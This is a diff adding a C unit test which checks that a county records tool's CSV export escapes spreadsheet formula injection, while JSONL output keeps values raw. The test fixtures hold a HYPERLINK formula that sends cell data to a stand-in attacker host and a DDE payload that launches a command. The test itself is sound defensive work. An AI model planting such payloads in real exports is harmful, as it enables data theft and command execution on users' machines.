@@ -253,6 +253,42 @@ test_county_export_progress_every_100000(void **state)
     county_testdb_destroy(&db);
 }
 
+/* A summary written to run as a formula in a spreadsheet is exported as
+ * text (a leading '), in export and list alike; jsonl keeps it as it is. */
+static void
+test_county_export_csv_guards_formulas(void **state)
+{
+    (void) state;
+    static const county_testdb_matter_t rows[] = {
+        {"01900000-0000-7000-8000-000000000009", "2024-03-01", "230523100201", 1, 1, 1, 3, 1, 1, 1,
+         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", NULL, 0},
+        {"01900000-0000-7000-8000-00000000000a", "2024-03-02", "230523100201", 1, 1, 1, 3, 1, 1, 1,
+         "@SUM(1+1)*cmd|' /C calc'!A0", NULL, 0},
+    };
+    county_testdb_t *db = county_testdb_new();
+    county_testdb_insert(db, rows, 2);
+    s_out_t o;
+    assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_CSV, &o), SJ_OK);
+    assert_non_null(
+        strstr(o.text, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"));
+    assert_non_null(strstr(o.text, ",'@SUM(1+1)*cmd|' /C calc'!A0\n"));
+    assert_null(strstr(o.text, ",=")); /* no cell starts with = */
+    assert_null(strstr(o.text, ",@"));
+    char *list = NULL;
+    size_t len = 0;
+    char err[256];
+    FILE *out = open_memstream(&list, &len);
+    assert_int_equal(county_query_list(db->db, NULL, SJ_FMT_CSV, out, err, sizeof err), SJ_OK);
+    assert_int_equal(fclose(out), 0);
+    assert_string_equal(o.text, list);
+    free(list);
+    free(o.text);
+    assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_JSONL, &o), SJ_OK);
+    assert_non_null(strstr(o.text, "\"summary\":\"=HYPERLINK("));
+    free(o.text);
+    county_testdb_destroy(&db);
+}
+
 int
 main(void)
 {
@@ -260,6 +296,7 @@ main(void)
         cmocka_unit_test(test_county_export_format_parse),
         cmocka_unit_test(test_county_export_csv_exact),
         cmocka_unit_test(test_county_export_csv_equals_list),
+        cmocka_unit_test(test_county_export_csv_guards_formulas),
         cmocka_unit_test(test_county_export_jsonl_lines_parse),
         cmocka_unit_test(test_county_export_filters_and_limit),
         cmocka_unit_test(test_county_export_bad_filter_is_einval),
